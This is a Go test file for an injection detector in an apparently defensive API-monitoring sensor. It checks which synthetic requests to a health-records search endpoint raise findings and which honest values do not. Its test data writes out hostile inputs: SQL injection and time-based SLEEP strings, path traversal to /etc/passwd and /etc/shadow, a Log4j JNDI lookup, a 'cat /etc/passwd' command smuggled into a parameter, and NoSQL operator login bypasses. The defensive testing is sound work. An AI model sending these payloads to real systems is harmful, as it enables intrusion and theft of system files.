package detectors

import (
	"fmt"
	"strings"
	"testing"

	"auscult/sensor/call"
	"auscult/sensor/clock"
	"auscult/sensor/exposure"
	"auscult/sensor/inject"
)

var lookReader = inject.New()

// valued is a call at the given second by principal who with one value in a parameter.
func valued(at int, who uint64, name, value string, status int) *call.Call {
	c := &call.Call{Method: "GET", Host: "ehr", Route: "/api/search", Endpoint: 501, Status: status, TTFB: 20 * clock.Time(1e6),
		Principal: call.Principal{Key: who, Kind: call.JWT, ID: fmt.Sprint("u", who)}}
	c.Time = epoch + clock.Time(at)*second
	c.Start = c.Time
	c.Seq = uint32(at)
	c.Client.Addr[15] = byte(who)
	c.Args = []call.Arg{{Key: text(name), Value: text(value), Name: name, Text: value[:min(64, len(value))], Len: len(value), Where: call.InQuery,
		Look: lookReader.Look([]byte(value))}}
	return c
}

// saidOf runs calls through all detectors and lists what of one kind was said.
func saidOf(t *testing.T, kind string, calls []*call.Call) string {
	t.Helper()
	e := New(Defaults())
	var got []string
	for _, c := range calls {
		for _, s := range e.Observe(nil, c) {
			if s.Detector != kind {
				continue
			}
			got = append(got, fmt.Sprintf("%s %s", s.Principal.ID, s.Severity))
			if !strings.Contains(s.Title, "{principal}") || s.Expected == "" || s.Observed == "" || len(s.Facts) == 0 || len(s.Evidence) == 0 || s.Calls == 0 {
				t.Errorf("a poor finding: %+v", s)
			}
			for _, c := range calls {
				for i := range c.Args {
					if v := c.Args[i].Text; len(v) > 3 && strings.Contains(s.Title+s.Expected+s.Observed+fmt.Sprint(s.Facts), v) {
						t.Errorf("a value stands in the finding: %q in %q %q %v", v, s.Title, s.Observed, s.Facts)
					}
				}
			}
		}
	}
	return strings.Join(got, ", ")
}

// searches are n honest searches of some people.
func searches(n int) (out []*call.Call) {
	names := [...]string{"Smith", "O'Brien", "Kumar", "D'Souza", "Garcia", "van den Berg", "Lee", "Nguyen", "Al-Amin", "N'Golo"}
	for i := range n {
		out = append(out, valued(i, uint64(10+i%7), "name", names[i%len(names)], 200))
	}
	return out
}

func TestInjection(t *testing.T) {
	f := func(name, want string, calls ...*call.Call) {
		t.Helper()
		if got := saidOf(t, "injection", calls); got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
	with := func(calls []*call.Call, more ...*call.Call) []*call.Call { return append(calls, more...) }
	shows := func(c *call.Call, set exposure.Set) *call.Call { c.Answer.Set = set; return c }
	late := func(c *call.Call, s int) *call.Call { c.TTFB = clock.Time(s) * second; return c }
	blocked := func(c *call.Call) *call.Call { c.Status = 403; return c }
	header := func(c *call.Call) *call.Call { c.Args[0].Where = call.InHeader; return c }
	body := func(c *call.Call) *call.Call { c.Method, c.Args[0].Where = "POST", call.InBody; return c }
	named := func(at int, op string) *call.Call {
		c := valued(at, 1, "name"+op, "x", 200)
		c.Args[0].Look.Families = inject.NoSQL
		return c
	}
	f("an editor's page", "", with(searches(10), body(valued(20, 1, "html", "<head><script src='/js/print.js'></script></head>", 200)),
		body(valued(30, 1, "html", "<div onclick=\"toggle()\">Plan</div>", 200)), body(valued(40, 1, "text", "Dear {{patient.name}}, ${clinic}", 200)),
		body(valued(50, 1, "note", "see ../old/notes and file://server/x", 200)))...)
	f("operators in names", "u1 Medium", with(searches(10), named(20, "[$ne]"), named(21, "[$gt]"), named(22, "[$regex]"))...)
	f("one operator in a name", "", with(searches(10), named(20, "[$gt]"), named(21, "[$gt]"), named(22, "[$gt]"))...)
	login := func(c *call.Call) *call.Call { c.Flags |= call.Login; return c }
	long := func(c *call.Call) *call.Call { c.Args[0].Len = 4000; return c }

	f("a form that no honest value has", "u1 Medium", valued(1, 1, "name", "x' UNION SELECT NULL,NULL--", 200))
	f("and the database complains", "u1 High", shows(valued(1, 1, "name", "x' AND EXTRACTVALUE(1,2)--", 500), exposure.DatabaseError))
	f("blocked", "u1 Medium", blocked(valued(1, 1, "name", "x' UNION SELECT NULL,NULL--", 200)))
	f("by nobody known", " Medium", func() *call.Call {
		c := valued(1, 0, "name", "x' UNION SELECT NULL--", 200)
		c.Principal = call.Principal{}
		return c
	}())
	f("in a login", "u1 Medium", login(valued(1, 1, "user", "x' or 1=1--", 401)))
	f("a weak form", "", valued(1, 1, "name", "admin'--", 200))
	f("a weak form that the database answers", "u1 Medium", shows(valued(1, 1, "name", "admin'--", 500), exposure.DatabaseError))
	f("three weak forms", "u1 Medium", valued(1, 1, "name", "admin'--", 200), valued(2, 1, "name", "root'--", 200), valued(3, 1, "name", "sa'--", 200))
	f("three times the same", "", valued(1, 1, "name", "admin'--", 200), valued(2, 1, "name", "admin'--", 200), valued(3, 1, "name", "admin'--", 200))
	f("three of three people", "", valued(1, 1, "name", "a1'--", 200), valued(2, 2, "name", "a2'--", 200), valued(3, 3, "name", "a3'--", 200))
	f("three in an hour", "", valued(1, 1, "name", "a1'--", 200), valued(1200, 1, "name", "a2'--", 200), valued(2400, 1, "name", "a3'--", 200))
	f("it makes a sound endpoint fail", "u1 Medium", with(searches(20), valued(30, 1, "name", "admin'--", 500))...)
	f("a gateway's failure", "", with(searches(20), valued(30, 1, "name", "admin'--", 502))...)
	f("it waits as long as asked", "u1 High", with(searches(20), late(valued(30, 1, "name", "x' AND SLEEP(5)-- -", 200), 5))...)
	f("a path", "u1 Medium", valued(1, 1, "file", "../../../../etc/passwd", 404))
	f("a path that is answered", "u1 High", shows(valued(1, 1, "file", "../../../../etc/passwd", 200), exposure.SystemFile))
	f("a lookup of Log4j in a header", "u1 Medium", header(valued(1, 1, "User-Agent", "${jndi:ldap://x.example/a}", 200)))
	f("odd signs in a header", "", header(valued(1, 1, "Cookie", "a'--", 200)), header(valued(2, 1, "Cookie", "b'--", 200)), header(valued(3, 1, "Cookie", "c'--", 200)))
	f("one who goes on is told when it doubles", "u1 Medium, u1 Medium, u1 Medium",
		valued(1, 1, "q", "1 UNION SELECT 1,2", 200), valued(2, 1, "q", "1 UNION SELECT 1,2,3", 200), valued(3, 1, "q", "1 UNION SELECT 1,2,3,4", 200), valued(4, 1, "q", "1 UNION SELECT 1,2,3,4,5", 200), valued(5, 1, "q", "1 UNION SELECT 1", 200))

	// honest
	f("O'Brien and others", "", searches(400)...)
	f("O'Brien meets a bug of the server", "", with(searches(20), shows(valued(30, 1, "name", "O'Brien", 500), exposure.DatabaseError), shows(valued(31, 2, "name", "D'Souza", 500), exposure.DatabaseError),
		shows(valued(32, 1, "name", "O'Neil", 500), exposure.DatabaseError))...)
	f("a lone quote", "", shows(valued(1, 1, "name", "Smith'", 500), exposure.DatabaseError))
	f("pages with scripts", "", long(valued(1, 1, "text", "<script src='a'></script>", 200)), long(valued(2, 1, "text", "<style>a</style><script>b</script>", 200)), long(valued(3, 1, "text", "<iframe src='https://x'></iframe>", 200)))
	f("notes", "", valued(1, 1, "note", "pt c/o pain; r/o MI & DVT -- select one from list", 201), valued(2, 1, "note", "union of the fracture; drop the dose", 201), valued(3, 1, "note", "BP 120/80 -- stable; 5'10\"", 201))

	// an application whose parameter is a query of its own language
	var console []*call.Call
	for i := range 12 {
		console = append(console, valued(i*700, uint64(20+i%4), "sql", fmt.Sprintf("select name, unit from staff where id = %d and exists (select 1 from rota)", i), 200))
	}
	f("a console of SQL, used by four", "", console...)
	filters := []*call.Call{}
	for i := range 9 {
		c := valued(i, uint64(20), "filter.age.$gte", fmt.Sprint(i), 200)
		c.Args[0].Look.Families |= inject.NoSQL
		filters = append(filters, c)
	}
	f("operators as filters", "", filters...)
	bypass := []*call.Call{}
	for i := range 3 {
		c := login(valued(i, 1, fmt.Sprint("password.$ne", i), "x"[:0], 401))
		c.Args[0].Look.Families |= inject.NoSQL
		c.Args[0].Value = uint64(i + 100)
		bypass = append(bypass, c)
	}
	f("operators in a login", "u1 Medium", bypass...)
}

// TestInjectionTeaches has an attacker who sends the same family again and again: what he sends does not become usual.
func TestInjectionTeaches(t *testing.T) {
	var calls []*call.Call
	for i := range 60 {
		calls = append(calls, valued(i, uint64(1+i%3), "name", fmt.Sprintf("x%d' or 1=1--", i), 200))
	}
	calls = append(calls, valued(100, 9, "name", "x' or 1=1--", 200))
	if got := saidOf(t, "injection", calls); !strings.HasSuffix(got, "u9 Medium") {
		t.Errorf("%q: the last is not among them", got)
	}
}

// TestInjectionBounds has more endpoints, parameters and people than are kept.
func TestInjectionBounds(t *testing.T) {
	cfg := Defaults()
	cfg.Profiles, cfg.Principals = 16, 16
	e := New(cfg)
	for i := range 500 {
		c := valued(i, uint64(1+i), fmt.Sprint("p", i), fmt.Sprintf("x%d'--; (a)", i), 200)
		c.Endpoint = uint64(1000 + i)
		e.Observe(nil, c)
		same := valued(i, 3, fmt.Sprint("p", i), "(a); b", 200)
		e.Observe(nil, same)
	}
	for _, w := range e.watchers {
		if d, ok := w.(*injection); ok {
			if d.profiles.len() > 16 || d.cases.files.len() > 16 || e.Stats().EvictedProfiles == 0 {
				t.Errorf("%d profiles, %d cases, %d evicted", d.profiles.len(), d.cases.files.len(), e.Stats().EvictedProfiles)
			}
			if v := d.profiles.find(501); v != nil && v.n > parametersKept {
				t.Errorf("%d parameters", v.n)
			}
			d.Forget(epoch + 60*day)
			if d.profiles.len() != 0 || d.cases.files.len() != 0 {
				t.Errorf("%d profiles and %d cases are left", d.profiles.len(), d.cases.files.len())
			}
		}
	}
}

// TestInjection_News says in each update what has come since the finding was last told.
func TestInjection_News(t *testing.T) {
	e := New(Defaults())
	var titles []string
	for i, v := range []string{"1' OR '1'='1", "1' UNION SELECT NULL--", "1' OR 2=2--", "../../../../etc/passwd", "x;cat /etc/passwd", "1' AND SLEEP(5)--", "../../etc/shadow", "a' OR 'a'='a", "b' OR 'b'='b"} {
		for _, s := range e.Observe(nil, valued(100+i, 9, fmt.Sprint("q", i/3), v, 200)) {
			if s.Detector == "injection" {
				titles = append(titles, s.Title)
			}
		}
	}
	if len(titles) < 3 || strings.Contains(titles[0], "; new: ") {
		t.Fatalf("%q", titles)
	}
	all := strings.Join(titles[1:], "\n")
	if !strings.Contains(all, "; new: ") || !strings.Contains(all, "paths to other files") || !strings.Contains(all, "parameter q1") {
		t.Errorf("updates do not say what is new: %q", titles)
	}
}
